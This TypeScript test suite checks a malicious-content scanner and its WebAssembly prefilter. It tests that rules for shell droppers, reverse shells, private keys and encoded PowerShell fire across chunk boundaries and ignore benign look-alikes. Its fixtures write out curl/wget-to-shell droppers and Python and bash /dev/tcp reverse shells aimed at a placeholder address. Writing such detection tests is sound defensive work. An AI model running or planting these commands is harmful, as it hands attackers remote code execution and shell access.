// The byte-pattern rules and their SIMD prefilter: every needle occurrence is found, wherever
// chunk boundaries fall, and each rule matches its payloads and not the harmless look-alikes.
import fc from 'fast-check';
import { BYTE_PATTERN_RULES, scanBytePatterns } from './byte-patterns.js';
import { createPrefilter, prefilterModuleBytes } from './pattern-prefilter.js';
import { Reason } from './verdict.js';
import { wasm } from './wasm.js';

/** Every position where one of the needles starts, by plain comparison. */
function naivePositions(haystack: Uint8Array, needles: { bytes: Uint8Array; caseInsensitive: boolean }[]): number[] {
  const found: number[] = [];
  const fold = (b: number) => (b >= 0x41 && b <= 0x5a ? b | 0x20 : b);
  for (let i = 0; i < haystack.length; i++) {
    for (const n of needles) {
      if (i + 3 > haystack.length) continue;
      let ok = true;
      for (let k = 0; k < 3 && ok; k++) ok = n.caseInsensitive ? fold(haystack[i + k]!) === fold(n.bytes[k]!) : haystack[i + k] === n.bytes[k];
      if (ok) {
        found.push(i);
        break;
      }
    }
  }
  return found;
}

it('assembles a valid WebAssembly module', () => {
  expect(() => new wasm.Module(prefilterModuleBytes(2, 2, false))).not.toThrow();
});

it('the prefilter reports every position a needle prefix starts at (property)', () => {
  const memory = new wasm.Memory({ initial: 4, maximum: 4 });
  const needles = ['curl', 'wGeT', '---x'].map((t, i) => ({ bytes: Buffer.from(t), caseInsensitive: i === 1, bucket: i }));
  const prefilter = createPrefilter(memory, false, needles, { offset: 3 * 65536, bytes: 65536 });
  const heap = new Uint8Array(memory.buffer);
  const alphabet = fc.constantFrom(...'curlwgetWGET-x '.split('').map((c) => c.charCodeAt(0)));
  fc.assert(
    fc.property(fc.uint8Array({ maxLength: 2000 }).chain((noise) => fc.tuple(fc.constant(noise), fc.array(alphabet, { maxLength: 2000 }))), ([noise, text]) => {
      const data = Uint8Array.from([...noise.slice(0, 500), ...text, ...noise.slice(500)]);
      heap.fill(0xaa, 0, 3 * 65536);
      heap.set(data, 0);
      const seen: number[] = [];
      prefilter.scan(0, data.length, (position) => seen.push(position));
      const expected = naivePositions(data, needles);
      for (const p of expected) expect(seen).toContain(p);
      for (const p of seen) expect(p).toBeLessThan(data.length);
    }),
    { numRuns: 300 },
  );
});

it('the prefilter finds them from any start offset, and when it has to resume (a tiny record space)', () => {
  const memory = new wasm.Memory({ initial: 2, maximum: 2 });
  const needles = ['curl', 'wGeT', '---x', 'os.d'].map((t, i) => ({ bytes: Buffer.from(t), caseInsensitive: i === 1, bucket: i }));
  // Room for four candidate records: the kernel stops after two hits and the caller resumes.
  const prefilter = createPrefilter(memory, false, needles, { offset: 65536, bytes: 96 + 4 * 32 });
  const heap = new Uint8Array(memory.buffer);
  const alphabet = fc.constantFrom(...'curlwgetWGET-xos.d '.split('').map((c) => c.charCodeAt(0)));
  fc.assert(
    fc.property(fc.nat(40), fc.array(alphabet, { maxLength: 3000 }), (start, text) => {
      heap.fill(0x20, 0, 65536);
      heap.set(text, start);
      const seen = new Map<number, number>();
      prefilter.scan(start, start + text.length, (position, buckets) => seen.set(position, (seen.get(position) ?? 0) | buckets));
      for (const p of naivePositions(Uint8Array.from(text), needles)) expect(seen.has(start + p)).toBe(true);
      for (const [p, buckets] of seen) {
        expect(p).toBeGreaterThanOrEqual(start);
        expect(p).toBeLessThan(start + text.length);
        expect(buckets).not.toBe(0);
      }
    }),
    { numRuns: 300 },
  );
});

const pad = (n: number) => '\n'.repeat(n);

describe('each rule matches its payloads', () => {
  const payloads: [string, string, string][] = [
    ['curl piped to sh', 'curl -fsSL http://203.0.113.7/x.sh | sh', Reason.ShellDropper],
    ['wget piped to bash', 'wget -qO- http://203.0.113.7/i | sudo bash', Reason.ShellDropper],
    ['sh -c around curl', 'sh -c "$(curl -fsSL http://203.0.113.7/i)"', Reason.ShellDropper],
    ['python reverse shell', "import socket,subprocess,os;s=socket.socket();s.connect(('203.0.113.7',4242));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])", Reason.ReverseShell],
    ['pty reverse shell', "import os,pty,socket;s=socket.socket();s.connect(('203.0.113.7',1));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn('sh')", Reason.ReverseShell],
    ['bash /dev/tcp reverse shell', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', Reason.ReverseShell],
    ['RSA private key', '-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA', Reason.PrivateKey],
    ['OpenSSH private key', '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA', Reason.PrivateKey],
    ['PKCS#8 private key', '-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEI', Reason.PrivateKey],
    ['PGP private key block', '-----BEGIN PGP PRIVATE KEY BLOCK-----\n', Reason.PrivateKey],
    ['encoded PowerShell', 'powershell.exe -NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA', Reason.EncodedPowerShell],
    ['encoded PowerShell, mixed case and -e', 'PoWeRsHeLl -w hidden -e JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwA=', Reason.EncodedPowerShell],
    ['pwsh with -enc', 'pwsh -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi', Reason.EncodedPowerShell],
  ];
  it.each(payloads)('%s', (_name, payload, reason) => {
    const bytes = Buffer.from(pad(3000) + payload + pad(3000), 'latin1');
    for (const chunk of [7, 64, 4096, 1 << 20]) {
      const matches = scanBytePatterns(bytes, undefined, chunk);
      expect(matches.map((m) => m.reason)).toContain(reason);
      expect(matches.find((m) => m.reason === reason)!.offset).toBeGreaterThanOrEqual(3000);
    }
  });
});

describe('and not the harmless look-alikes', () => {
  const benign = [
    'curl is a command-line tool for transferring data with URLs',
    'wget --help',
    'os.dup2 duplicates a file descriptor',
    '-----BEGIN CERTIFICATE-----\nMIIB',
    '-----BEGIN PUBLIC KEY-----\nMFkw',
    'PowerShell is a task automation shell',
    'powershell -File build.ps1',
    'the /dev/tcp path is a bash feature',
    '\u2581curl \u2581wget \u2581sh \u2581bash',
  ];
  it.each(benign)('%s', (text) => {
    expect(scanBytePatterns(Buffer.from(pad(100) + text + pad(100), 'utf8'))).toEqual([]);
  });
});

it('finds a payload split across any chunk boundary, and reports its file offset', () => {
  const payload = 'curl http://203.0.113.7/x | sh';
  const bytes = Buffer.from(pad(1000) + payload + pad(1000), 'latin1');
  for (let chunk = 1000; chunk <= 1000 + payload.length; chunk++) {
    expect(scanBytePatterns(bytes, undefined, chunk)).toEqual([{ rule: 'shell-dropper', reason: Reason.ShellDropper, offset: 1000 }]);
  }
});

it('has four rules with at most eight anchors (one prefilter bucket each)', () => {
  expect(BYTE_PATTERN_RULES.map((r) => r.name)).toEqual(['shell-dropper', 'reverse-shell', 'private-key', 'encoded-powershell']);
  expect(BYTE_PATTERN_RULES.flatMap((r) => r.anchors).length).toBeLessThanOrEqual(8);
});
